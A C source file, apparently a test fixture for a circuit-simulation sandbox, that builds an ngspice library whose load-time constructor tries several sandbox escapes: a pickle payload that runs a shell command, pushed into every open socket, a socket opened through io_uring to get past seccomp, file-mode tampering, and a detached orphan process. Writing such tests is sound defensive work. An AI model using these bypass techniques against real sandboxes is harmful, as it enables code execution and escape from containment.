/* A "code model" library that attacks from inside ngspice when it is loaded (tests/test_spice_hostile_code.py).
 *
 * Its constructor runs as soon as ngspice loads it (`codemodel FILE`): the attacker's native code inside the
 * sandboxed ngspice, as a netlist would get it through a route the deny-list does not know, or a fault in
 * ngspice.  MEMSPICE_HOSTILE picks the attack; MEMSPICE_HOSTILE_TARGET names what it aims at.
 *   pickle  a pickle that runs `touch TARGET` sent to every socket (the shared worker's connection to its parent)
 *   uring   a UDP datagram to 127.0.0.1:TARGET through io_uring (seccomp refuses socket(), not io_uring)
 *   chmod   chmod 0777 and reset the times of TARGET (Landlock does not govern a file's mode or times)
 *   fifo    a FIFO where memspice reads the results, and a link to TARGET beside it
 *   orphan  a child that leaves ngspice's session (setsid) and lives on, named memspice-orphan
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <unistd.h>

static void send_pickle(const char *target) {
    char buf[512];
    snprintf(buf, sizeof buf, "cos\nsystem\n(S'touch %s'\ntR.", target);
    unsigned n = (unsigned)strlen(buf);
    unsigned char head[4] = {n >> 24, n >> 16, n >> 8, n};
    for (int fd = 3; fd < 256; fd++) {
        struct stat st;
        if (fstat(fd, &st) == 0 && S_ISSOCK(st.st_mode)) {
            if (write(fd, head, 4) == 4) write(fd, buf, n);
        }
    }
}

static int uring_socket(int domain, int type) {
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    int ring = (int)syscall(__NR_io_uring_setup, 4, &p);
    if (ring < 0) return -1;
    size_t sq_size = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_size = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    char *sq = mmap(0, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
    char *cq = mmap(0, cq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
                                     MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) return -1;
    unsigned *tail = (unsigned *)(sq + p.sq_off.tail), mask = *(unsigned *)(sq + p.sq_off.ring_mask);
    unsigned *array = (unsigned *)(sq + p.sq_off.array), i = *tail & mask;
    memset(&sqes[i], 0, sizeof sqes[i]);
    sqes[i].opcode = IORING_OP_SOCKET;
    sqes[i].fd = domain;
    sqes[i].off = type;
    array[i] = i;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
    unsigned *head = (unsigned *)(cq + p.cq_off.head), cmask = *(unsigned *)(cq + p.cq_off.ring_mask);
    struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    return cqes[*head & cmask].res;
}

__attribute__((constructor)) static void attack(void) {
    const char *what = getenv("MEMSPICE_HOSTILE"), *target = getenv("MEMSPICE_HOSTILE_TARGET");
    if (!what || !target) return;
    if (!strcmp(what, "pickle")) {
        send_pickle(target);
    } else if (!strcmp(what, "uring")) {
        int fd = uring_socket(AF_INET, SOCK_DGRAM);
        struct sockaddr_in to;
        memset(&to, 0, sizeof to);
        to.sin_family = AF_INET;
        to.sin_port = htons((unsigned short)atoi(target));
        to.sin_addr.s_addr = htonl(0x7f000001);
        if (fd >= 0) sendto(fd, "escaped", 7, 0, (struct sockaddr *)&to, sizeof to);
    } else if (!strcmp(what, "chmod")) {
        struct timeval epoch[2] = {{0, 0}, {0, 0}};
        chmod(target, 0777);
        utimes(target, epoch);
    } else if (!strcmp(what, "fifo")) {
        mkfifo("memspice-results.raw", 0600);
        symlink(target, "link-out");
    } else if (!strcmp(what, "orphan")) {
        if (fork() == 0) {
            setsid();
            prctl(PR_SET_NAME, "memspice-orphan", 0, 0, 0);
            signal(SIGTERM, SIG_IGN);
            sleep(600);
            _exit(0);
        }
    }
}
